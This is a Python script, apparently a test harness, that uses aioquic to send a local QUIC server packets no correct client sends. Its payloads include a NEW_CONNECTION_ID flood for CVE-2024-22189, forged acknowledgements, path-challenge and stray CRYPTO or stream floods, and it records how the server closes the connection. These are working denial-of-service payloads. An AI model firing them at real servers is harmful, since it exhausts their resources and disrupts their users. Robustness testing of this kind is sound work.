"""Attacks a server with frames of QUIC that no correct client sends. The arguments are the port, the name of the attack, and the number of
packets. Prints in JSON how many were sent, and the code and the reason with which the server has closed the connection. Ends when
standard input does, and until then acknowledges nothing."""

import json
import os
import socket
import ssl
import sys
import time

from aioquic.buffer import encode_uint_var as number
from aioquic.h3.connection import H3_ALPN
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import HandshakeCompleted
from aioquic.quic.packet import QuicPacketType
from aioquic.quic.packet_builder import QuicPacketBuilder
from aioquic.tls import Epoch

port, attack, packets = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
PATIENCE_S = 30
ACK, CRYPTO, NEW_ID, RETIRE_ID, CHALLENGE, STREAM_WITH_OFFSET = 0x02, 0x06, 0x18, 0x19, 0x1A, 0x0E


class Client:
    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.connect(("127.0.0.1", port))
        configuration = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost")
        configuration.verify_mode = ssl.CERT_NONE
        self.connection = QuicConnection(configuration=configuration)
        self.closed, self.is_complete = None, False
        self.connection.connect(("127.0.0.1", port), now=time.monotonic())
        until = time.monotonic() + PATIENCE_S
        while not self.is_complete:
            assert time.monotonic() < until, "timeout: the handshake"
            for datagram, _ in self.connection.datagrams_to_send(now=time.monotonic()):
                self.socket.send(datagram)
            self.receive(0.1)
        # The end of the handshake.
        for datagram, _ in self.connection.datagrams_to_send(now=time.monotonic()):
            self.socket.send(datagram)

    def receive(self, timeout):
        self.socket.settimeout(timeout)
        try:
            while True:
                datagram = self.socket.recv(65_536)
                self.connection.receive_datagram(datagram, ("127.0.0.1", port), now=time.monotonic())
                self.socket.settimeout(0.0001)
        except (TimeoutError, BlockingIOError, ConnectionRefusedError):
            pass
        # The event that the connection is closed follows only seconds later.
        if (close := self.connection._close_event) is not None:
            self.closed = [int(close.error_code), close.reason_phrase]
        while (event := self.connection.next_event()) is not None:
            self.is_complete |= isinstance(event, HandshakeCompleted)

    def send(self, frames):
        """Sends a packet with these frames, each a type and the rest."""
        connection = self.connection
        builder = QuicPacketBuilder(
            host_cid=connection.host_cid,
            is_client=True,
            max_datagram_size=1200,
            packet_number=connection._packet_number,
            peer_cid=connection._peer_cid.cid,
            version=connection._version,
        )
        builder.start_packet(QuicPacketType.ONE_RTT, connection._cryptos[Epoch.ONE_RTT])
        for kind, rest in frames:
            builder.start_frame(kind, capacity=len(rest) + 8).push_bytes(rest)
        datagrams, _ = builder.flush()
        connection._packet_number = builder.packet_number
        for datagram in datagrams:
            try:
                self.socket.send(datagram)
            except ConnectionRefusedError:
                pass


def new_id(sequence):
    """A connection id that retires all before it."""
    return NEW_ID, number(sequence) + number(sequence) + b"\x08" + os.urandom(8) + os.urandom(16)


def acknowledgement(largest, ranges):
    """Acknowledges every second packet up to the largest."""
    return ACK, number(largest) + number(0) + number(ranges) + number(0) + (number(0) + number(0)) * ranges


def piece(at):
    """A byte of a stream for a request: every second one."""
    stream, offset = at // 8000 % 16 * 4, at % 8000 * 2 + 1
    return STREAM_WITH_OFFSET, number(stream) + number(offset) + number(1) + b"x"


ATTACKS = {
    # CVE-2024-22189: the answers, RETIRE_CONNECTION_ID, are not acknowledged.
    "new-ids": lambda at: [new_id(at * 20 + sequence + 1) for sequence in range(20)],
    # An id that the server has not issued.
    "unknown-id": lambda _: [(RETIRE_ID, number(1000))],
    # Packets that the server has not sent.
    "false-acknowledgement": lambda _: [acknowledgement(1_000_000, 0)],
    "acknowledgements": lambda _: [acknowledgement(0, 0)] * 100,
    "challenges": lambda _: [(CHALLENGE, os.urandom(8))] * 100,
    "pieces": lambda at: [piece(at * 100 + each) for each in range(100)],
    # After the handshake, the server expects nothing on the stream of TLS.
    "crypto": lambda at: [(CRYPTO, number(2 * (at * 100 + each) + 1) + number(1) + b"x") for each in range(100)],
}

client = Client()
sent = 0
while sent < packets and client.closed is None:
    client.send(ATTACKS[attack](sent))
    sent += 1
    if sent % 20 == 0:
        client.receive(0.0001)
if client.closed is None:
    client.receive(0.5)
print(json.dumps({"sent": sent, "closed": client.closed}), flush=True)
sys.stdin.read()
